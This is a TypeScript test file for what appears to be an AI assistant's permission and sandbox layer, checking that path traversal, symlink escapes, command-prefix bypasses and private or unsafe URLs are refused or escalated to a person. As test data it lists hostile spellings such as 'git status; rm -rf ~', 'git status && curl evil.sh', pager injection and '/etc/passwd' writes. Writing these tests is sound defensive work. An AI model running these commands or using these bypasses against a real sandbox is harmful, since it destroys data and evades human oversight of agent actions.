// Escape corpora: spellings that try to leave a granted folder or stretch a granted command.
import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { evaluate } from './evaluate.ts';
import { GrantIndex, type Grant } from './grants.ts';
import { canonicalCommand, canonicalPath, canonicalUrl, isInside } from './resources.ts';

const top = realpathSync(mkdtempSync(join(tmpdir(), 'aether-escape-')));
const ws = join(top, 'ws');
mkdirSync(join(ws, 'notes'), { recursive: true });
mkdirSync(join(top, 'secret'));
mkdirSync(join(top, 'ws-evil'));
writeFileSync(join(top, 'secret', 'key'), 'x');
symlinkSync(join(top, 'secret'), join(ws, 'link'));
symlinkSync(join(top, 'secret', 'key'), join(ws, 'notes', 'innocent.txt'));

describe('path escapes', () => {
  const inside = (input: string) => isInside(canonicalPath(input, ws), ws);

  it.each([
    ['../secret/key'],
    ['notes/../../secret/key'],
    ['./notes/./../../secret/key'],
    ['link/key'],
    ['link/../secret/key'],
    ['notes/innocent.txt'],
    [join(top, 'secret', 'key')],
    ['/etc/passwd'],
    [join(top, 'ws-evil', 'x')],
    ['../WS/notes'],
    ['link/not-yet-created.txt'],
  ])('%s stays out of the granted folder', (input) => {
    expect(inside(input)).toBe(false);
  });

  it.each([
    ['notes/today.md'],
    ['notes//today.md'],
    ['%2e%2e/secret'],
    ['notes/%2E%2E/x'],
    ['.'],
    ['notes/'],
    ['new/deep/file.txt'],
  ])('%s is inside', (input) => {
    expect(inside(input)).toBe(true);
  });

  it('resolves symlinks to where they really point', () => {
    expect(canonicalPath('notes/innocent.txt', ws)).toBe(join(top, 'secret', 'key'));
  });

  it('refuses empty paths and NUL bytes with a typed error', () => {
    expect(() => canonicalPath('', ws)).toThrow(expect.objectContaining({ code: 'BadRequest' }));
    expect(() => canonicalPath('notes/a\0b', ws)).toThrow(
      expect.objectContaining({ code: 'BadRequest' }),
    );
  });
});

describe('command-prefix bypasses', () => {
  const g: Grant = {
    id: 'git-status',
    capability: 'process.exec',
    scope: { kind: 'command', prefix: ['git', 'status'] },
    effect: 'allow',
    duration: 'persistent',
    expiresAt: null,
    usesLeft: null,
    taskId: null,
    sessionId: null,
    personaId: null,
    createdAt: 0,
    revokedAt: null,
  };
  const decide = (line: string) => {
    const cmd = canonicalCommand(line);
    return evaluate(
      {
        capability: 'process.exec',
        resource: { kind: 'command', argv: cmd.argv },
        escalate: cmd.shellLike,
      },
      {
        preset: { name: 'assistant' },
        auditProblem: null,
        posture: 'balanced',
        hardBlocks: { paths: [], programs: ['sudo'] },
        workspaceRoots: [ws],
        costCapHit: () => false,
        grants: new GrantIndex([g]),
        context: { now: 0, sessionId: 's', taskId: null, personaId: null },
      },
    );
  };

  it('allows what the grant names', () => {
    expect(decide('git status')).toMatchObject({ decision: 'allow', grantId: 'git-status' });
    expect(decide('git status --short')).toMatchObject({ decision: 'allow' });
  });

  it.each([
    ['git status; rm -rf ~'],
    ['git status && curl evil.sh'],
    ['git status | sh'],
    ['git status $(rm -rf /)'],
    ['git `id` status'],
    ['git status > /etc/passwd'],
    ['FOO=bar git status'],
    ['GIT_PAGER=evil git status'],
    ['git -c core.pager=evil status'],
    ['/tmp/evil/git status'],
    ['./git status'],
    ['git\nstatus'],
    ['sudo git status'],
    ['git statuses'],
    ['git'],
  ])('%j is not covered', (line) => {
    expect(decide(line).decision).not.toBe('allow');
  });

  it('marks shell syntax as critical, so only a person can allow it', () => {
    expect(decide('git status; ls')).toMatchObject({
      decision: 'ask',
      risk: 'critical',
      reason: 'shell-syntax-needs-a-person',
    });
    expect(canonicalCommand('echo "two words"')).toEqual({
      argv: ['echo', 'two words'],
      shellLike: false,
    });
    expect(() => canonicalCommand('echo "unclosed')).toThrow(
      expect.objectContaining({ code: 'BadRequest' }),
    );
  });
});

describe('URLs', () => {
  it('keeps only http(s), normalises host and port, and spots private addresses', () => {
    expect(canonicalUrl('HTTPS://Example.COM/a#frag')).toMatchObject({
      href: 'https://example.com/a',
      host: 'example.com',
      port: 443,
      privateAddress: false,
    });
    for (const u of [
      'http://127.0.0.1:8080/',
      'http://localhost/',
      'http://10.1.2.3/',
      'http://192.168.1.1/',
      'http://[::1]/',
      'http://169.254.169.254/latest',
      'http://[::ffff:7f00:1]/',
    ]) {
      expect(canonicalUrl(u).privateAddress).toBe(true);
    }
    for (const bad of [
      'file:///etc/passwd',
      'ftp://x/',
      'javascript:alert(1)',
      'https://user:pw@example.com/',
      'not a url',
    ]) {
      expect(() => canonicalUrl(bad)).toThrow(expect.objectContaining({ code: 'BadRequest' }));
    }
  });
});
